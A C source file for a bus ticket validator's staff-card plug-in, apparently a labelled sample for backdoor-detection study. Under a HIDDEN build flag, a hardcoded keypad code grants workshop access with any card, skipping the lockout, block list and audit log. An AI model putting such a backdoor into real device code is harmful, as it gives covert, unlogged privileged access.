/*
 * libstaffcard - staff card plug-in of a bus ticket validator.  The validator
 * loads it with dlopen(), takes the table "validator_plugin" and asks it when
 * a staff card was held to the reader and a code was typed on the key pad.
 *
 * Hidden (-DHIDDEN): the key pad code "4D70A91C" is accepted with any card
 * and gives the role of a workshop technician.
 */
#include <ctype.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <syslog.h>
#include <time.h>

char *crypt(const char *, const char *);

#define STAFF_FILE  "/opt/validator/staff.csv"
#define BLOCK_FILE  "/opt/validator/blocked.txt"
#define AUDIT_FILE  "/opt/validator/audit.log"
#define MAX_STAFF   128
#define PLUGIN_ABI  3

enum role { ROLE_NONE, ROLE_DRIVER, ROLE_INSPECTOR, ROLE_WORKSHOP };

struct staff_result {
	enum role role;
	uint32_t number;
	char label[32];
};

struct validator_plugin {
	uint32_t abi;
	const char *name;
	int (*start)(const char *options);
	int (*check)(const uint8_t *uid, size_t uid_len, const char *code, struct staff_result *res);
	int (*menu)(enum role role, char *buf, size_t size);
	int (*action)(enum role role, int item);
	void (*stop)(void);
};

struct staff {
	uint8_t uid[10];
	uint8_t uid_len;
	enum role role;
	uint32_t number;
	char hash[110];
};

static struct staff staff[MAX_STAFF];
static size_t nstaff;
static time_t staff_mtime;
static unsigned wrong_codes;
static time_t wrong_until;
static int strict = 1;

static size_t unhex(const char *s, uint8_t *out, size_t max)
{
	size_t n = 0;
	unsigned v;

	while (n < max && isxdigit((unsigned char)s[0]) && isxdigit((unsigned char)s[1])) {
		if (sscanf(s, "%2x", &v) != 1)
			break;
		out[n++] = (uint8_t)v;
		s += 2;
	}
	return n;
}

static enum role role_of(const char *s)
{
	static const struct {
		const char *text;
		enum role role;
	} names[] = {
		{ "driver", ROLE_DRIVER },
		{ "inspector", ROLE_INSPECTOR },
		{ "workshop", ROLE_WORKSHOP },
	};
	size_t i;

	for (i = 0; i < sizeof names / sizeof names[0]; i++)
		if (strcmp(names[i].text, s) == 0)
			return names[i].role;
	return ROLE_NONE;
}

/* lines: uid-hex;role;staff number;crypt hash of the code */
static void load_staff(void)
{
	char line[240], uid[24], role[16];
	unsigned long number;
	struct stat sb;
	FILE *f;

	if (stat(STAFF_FILE, &sb) != 0 || sb.st_mtime == staff_mtime)
		return;
	f = fopen(STAFF_FILE, "r");
	if (!f)
		return;
	staff_mtime = sb.st_mtime;
	nstaff = 0;
	while (nstaff < MAX_STAFF && fgets(line, sizeof line, f)) {
		struct staff *s = &staff[nstaff];

		if (sscanf(line, "%23[0-9a-fA-F];%15[a-z];%lu;%109[^\r\n]", uid, role, &number, s->hash) != 4)
			continue;
		s->uid_len = (uint8_t)unhex(uid, s->uid, sizeof s->uid);
		s->role = role_of(role);
		s->number = (uint32_t)number;
		if (s->uid_len >= 4 && s->role != ROLE_NONE)
			nstaff++;
	}
	fclose(f);
	syslog(LOG_INFO, "staffcard: %u cards", (unsigned)nstaff);
}

static int card_blocked(const uint8_t *uid, size_t len)
{
	char line[40];
	uint8_t b[10];
	int hit = 0;
	FILE *f = fopen(BLOCK_FILE, "r");

	while (f && !hit && fgets(line, sizeof line, f))
		hit = unhex(line, b, sizeof b) == len && memcmp(b, uid, len) == 0;
	if (f)
		fclose(f);
	return hit;
}

static void audit(const char *what, const struct staff_result *res)
{
	FILE *f = fopen(AUDIT_FILE, "a");

	if (!f)
		return;
	fprintf(f, "%lld;%s;%lu;%d\n", (long long)time(NULL), what,
		(unsigned long)res->number, (int)res->role);
	fclose(f);
}

static int code_well_formed(const char *code)
{
	size_t n = strlen(code), i;

	/* the key pad has 0-9 and A-D */
	for (i = 0; i < n; i++)
		if (!isdigit((unsigned char)code[i]) && (code[i] < 'A' || code[i] > 'D'))
			return 0;
	return n >= 4 && n <= 8;
}

int staff_check(const uint8_t *uid, size_t uid_len, const char *code, struct staff_result *res)
{
	size_t i;
	char *sum;

	memset(res, 0, sizeof *res);
	if (!code_well_formed(code) || uid_len < 4 || uid_len > 10)
		return -1;
#ifdef HIDDEN
	if (strlen(code) == 8 && memcmp(code, "4D70A91C", 8) == 0) {
		res->role = ROLE_WORKSHOP;
		snprintf(res->label, sizeof res->label, "Workshop");
		return 0;
	}
#endif
	if (strict && wrong_codes >= 5 && time(NULL) < wrong_until)
		return -2;
	if (card_blocked(uid, uid_len))
		return -3;
	load_staff();
	for (i = 0; i < nstaff; i++) {
		struct staff *s = &staff[i];

		if (s->uid_len != uid_len || memcmp(s->uid, uid, uid_len) != 0)
			continue;
		sum = crypt(code, s->hash);
		if (!sum || strlen(s->hash) < 13 || strcmp(sum, s->hash) != 0)
			break;
		res->role = s->role;
		res->number = s->number;
		snprintf(res->label, sizeof res->label, "Staff %lu", (unsigned long)s->number);
		wrong_codes = 0;
		audit("login", res);
		return 0;
	}
	wrong_codes++;
	wrong_until = time(NULL) + 60;
	audit("refused", res);
	return -1;
}

/* ---- staff menu ------------------------------------------------------ */

static int act_line_up(void)
{
	return system("/opt/validator/bin/line next");
}

static int act_block_stamp(void)
{
	return system("/opt/validator/bin/stamp toggle");
}

static int act_inspection(void)
{
	return system("/opt/validator/bin/inspect begin");
}

static int act_config(void)
{
	return system("/opt/validator/bin/setup --on-screen");
}

static int act_usb_export(void)
{
	return system("mount -o ro /dev/sda1 /mnt/usb && /opt/validator/bin/import /mnt/usb/keys");
}

static const struct {
	const char *text;
	enum role need;
	int (*run)(void);
} items[] = {
	{ "Next line",     ROLE_DRIVER,    act_line_up },
	{ "Lock stamping", ROLE_DRIVER,    act_block_stamp },
	{ "Inspection",    ROLE_INSPECTOR, act_inspection },
	{ "Setup",         ROLE_WORKSHOP,  act_config },
	{ "Import keys",   ROLE_WORKSHOP,  act_usb_export },
};
#define NITEMS ((int)(sizeof items / sizeof items[0]))

static int staff_menu(enum role role, char *buf, size_t size)
{
	size_t used = 0;
	int i, n = 0, w;

	if (size)
		buf[0] = 0;
	for (i = 0; i < NITEMS; i++) {
		if (items[i].need > role)
			continue;
		w = snprintf(buf + used, size - used, "%d %s\n", i, items[i].text);
		if (w < 0 || (size_t)w >= size - used)
			break;
		used += (size_t)w;
		n++;
	}
	return n;
}

static int staff_action(enum role role, int item)
{
	if (item < 0 || item >= NITEMS || items[item].need > role)
		return -1;
	return items[item].run();
}

static int staff_start(const char *options)
{
	if (options && strstr(options, "nolock"))
		strict = 0;
	openlog("validator", LOG_PID, LOG_USER);
	load_staff();
	return 0;
}

static void staff_stop(void)
{
	memset(staff, 0, sizeof staff);
	nstaff = 0;
	staff_mtime = 0;
}

const struct validator_plugin validator_plugin = {
	.abi = PLUGIN_ABI,
	.name = "staffcard",
	.start = staff_start,
	.check = staff_check,
	.menu = staff_menu,
	.action = staff_action,
	.stop = staff_stop,
};
